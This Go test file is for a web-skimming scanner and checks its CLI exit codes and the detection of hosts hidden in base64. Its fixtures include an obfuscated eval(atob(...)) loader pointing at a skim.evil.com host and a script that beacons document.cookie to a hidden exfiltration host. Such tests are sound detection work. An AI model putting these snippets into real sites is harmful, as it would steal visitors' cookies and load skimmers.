package main

import (
	"bytes"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/shieldscan/shieldscan/rules"
	"github.com/shieldscan/shieldscan/scanner"
	"github.com/shieldscan/shieldscan/scanner/analyze"
	"github.com/shieldscan/shieldscan/scanner/tree"
)

func TestAnalyzeInventoryExitCodes(t *testing.T) {
	root := repoRoot(t)
	corpus := filepath.Join(root, "testdata", "obfuscated")
	shop := filepath.Join(root, "testdata", "example-shop")
	observed := filepath.Join(root, "testdata", "inventory", "pageshield-observed.json")
	mux := http.NewServeMux()
	mux.HandleFunc("/loader.js", func(w http.ResponseWriter, r *http.Request) {
		w.Write([]byte("eval(atob('aHR0cHM6Ly9za2ltLmV2aWwuY29tL2MuanM='))"))
	})
	mux.HandleFunc("/clean.js", func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("var a = 1;")) })
	mux.HandleFunc("/big.js", func(w http.ResponseWriter, r *http.Request) { w.Write(bytes.Repeat([]byte("x"), 4096)) })
	mux.HandleFunc("/to-https", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "https://127.0.0.1:1/x.js", http.StatusFound)
	})
	srv := httptest.NewServer(mux)
	defer srv.Close()
	tests := []struct {
		name   string
		args   []string
		want   int
		stderr string // a part of stderr
	}{
		{"analyze help", []string{"analyze", "--help"}, 0, ""},
		{"analyze no args", []string{"analyze"}, 2, "analyze takes one FILE or URL"},
		{"analyze two args", []string{"analyze", "a.js", "b.js"}, 2, "analyze takes one FILE or URL"},
		{"analyze bad format", []string{"analyze", "--format", "xml", "a.js"}, 2, "--format"},
		{"analyze bad fail-on", []string{"analyze", "--fail-on", "fatal", "a.js"}, 2, "--fail-on"},
		{"analyze missing file", []string{"analyze", filepath.Join(corpus, "nope.js")}, 2, "no such file"},
		{"analyze hidden host fails", []string{"analyze", filepath.Join(corpus, "base64-atob.js")}, 1, ""},
		{"analyze hidden host, fail-on never", []string{"analyze", "--fail-on", "never", filepath.Join(corpus, "base64-atob.js")}, 0, ""},
		{"analyze clean", []string{"analyze", filepath.Join(shop, "public", "js", "checkout.js")}, 0, ""},
		{"analyze plain host, fail-on note", []string{"analyze", "--fail-on", "note", filepath.Join(shop, "public", "js", "checkout.js")}, 1, ""},
		{"analyze negative", []string{"analyze", filepath.Join(corpus, "negative", "integrity.html")}, 0, ""},
		{"analyze offline url", []string{"analyze", "--offline", srv.URL + "/loader.js"}, 2, "--offline"},
		{"analyze url", []string{"analyze", srv.URL + "/loader.js"}, 1, "warning: fetching " + srv.URL + "/loader.js contacts 127.0.0.1"},
		{"analyze clean url", []string{"analyze", srv.URL + "/clean.js"}, 0, "contacts"},
		{"analyze url over the cap", []string{"analyze", "--max-size", "1000", srv.URL + "/big.js"}, 2, "larger than the size cap"},
		{"analyze url redirected to https", []string{"analyze", srv.URL + "/to-https"}, 2, "redirect refused: from http to https"},
		{"inventory help", []string{"inventory", "--help"}, 0, ""},
		{"inventory shop", []string{"inventory", shop}, 0, ""},
		{"inventory fail-on note", []string{"inventory", "--fail-on", "note", shop}, 1, ""},
		{"inventory against", []string{"inventory", "--site-host", "shop.example.com", "--against", observed, shop}, 1, ""},
		{"inventory against, fail-on never", []string{"inventory", "--fail-on", "never", "--against", observed, shop}, 0, ""},
		{"inventory missing against", []string{"inventory", "--against", filepath.Join(shop, "nope.json"), shop}, 2, "reading --against"},
		{"inventory missing baseline", []string{"inventory", "--baseline", filepath.Join(shop, "nope.txt"), shop}, 2, "reading --baseline"},
		{"inventory missing path", []string{"inventory", filepath.Join(shop, "nope")}, 2, "no such file"},
		{"inventory path is a file", []string{"inventory", filepath.Join(shop, "alert.txt")}, 2, "not a directory"},
		{"inventory two paths", []string{"inventory", shop, shop}, 2, "one PATH"},
		{"inventory offline zone", []string{"inventory", "--offline", "--cloudflare-zone", "z", shop}, 2, "--offline"},
		{"inventory zone without token", []string{"inventory", "--cloudflare-zone", "z", shop}, 2, "CLOUDFLARE_API_TOKEN"},
		{"inventory since outside git", []string{"inventory", "--since", "main", t.TempDir()}, 2, "not a git repository"},
	}
	t.Setenv("CLOUDFLARE_API_TOKEN", "")
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var stdout, stderr bytes.Buffer
			got := run(t.Context(), tt.args, strings.NewReader(""), &stdout, &stderr)
			if got != tt.want {
				t.Errorf("run(%q) = %d, want %d\nstderr: %s", tt.args, got, tt.want, stderr.String())
			}
			if tt.stderr != "" && !strings.Contains(stderr.String(), tt.stderr) {
				t.Errorf("run(%q) stderr = %q, want it to contain %q", tt.args, stderr.String(), tt.stderr)
			}
			// A URL gets the warning that the host is contacted, then the error line.
			msg := stderr.String()
			if strings.HasPrefix(msg, "shieldscan: warning: ") {
				msg = msg[strings.IndexByte(msg, '\n')+1:]
			}
			if tt.want == 2 && (strings.Count(msg, "\n") != 1 || !strings.HasPrefix(msg, "shieldscan: ")) {
				t.Errorf("run(%q) stderr = %q, want one line 'shieldscan: …'", tt.args, stderr.String())
			}
		})
	}
}

// TestExpandFindsDerivedHost is what scan --expand is for: the code never names the alerted
// script, but it does name a host that only the script mentions (hidden in base64).
func TestExpandFindsDerivedHost(t *testing.T) {
	parent, err := rules.Parse("https://cdn.widget-vendor.com/w.js", rules.Origin{File: "alert.txt", Line: 1})
	if err != nil {
		t.Fatal(err)
	}
	script := []byte("var u = atob('aHR0cHM6Ly9jb2xsZWN0LmV4ZmlsLW5ldC5jb20vcA=='); navigator.sendBeacon(u, document.cookie);")
	set := rules.NewSet()
	set.Add(parent)
	for _, r := range analyze.Expand(parent, script) {
		set.Add(r)
	}
	fsys := fstest.MapFS{"csp.conf": {Data: []byte("add_header Content-Security-Policy \"connect-src https://collect.exfil-net.com\";\n")}}
	rep, err := scanner.Scan(t.Context(), tree.New(fsys, tree.Options{}), set, scanner.Options{})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range rep.Findings {
		got = append(got, string(f.Rule)+" "+f.Canonical+" parent="+rep.ResourceOf(&f).Parent)
	}
	want := "declared-reference collect.exfil-net.com parent=https://cdn.widget-vendor.com/w.js"
	if !strings.Contains(strings.Join(got, "\n"), want) {
		t.Errorf("findings:\n%s\nwant %q", strings.Join(got, "\n"), want)
	}
}
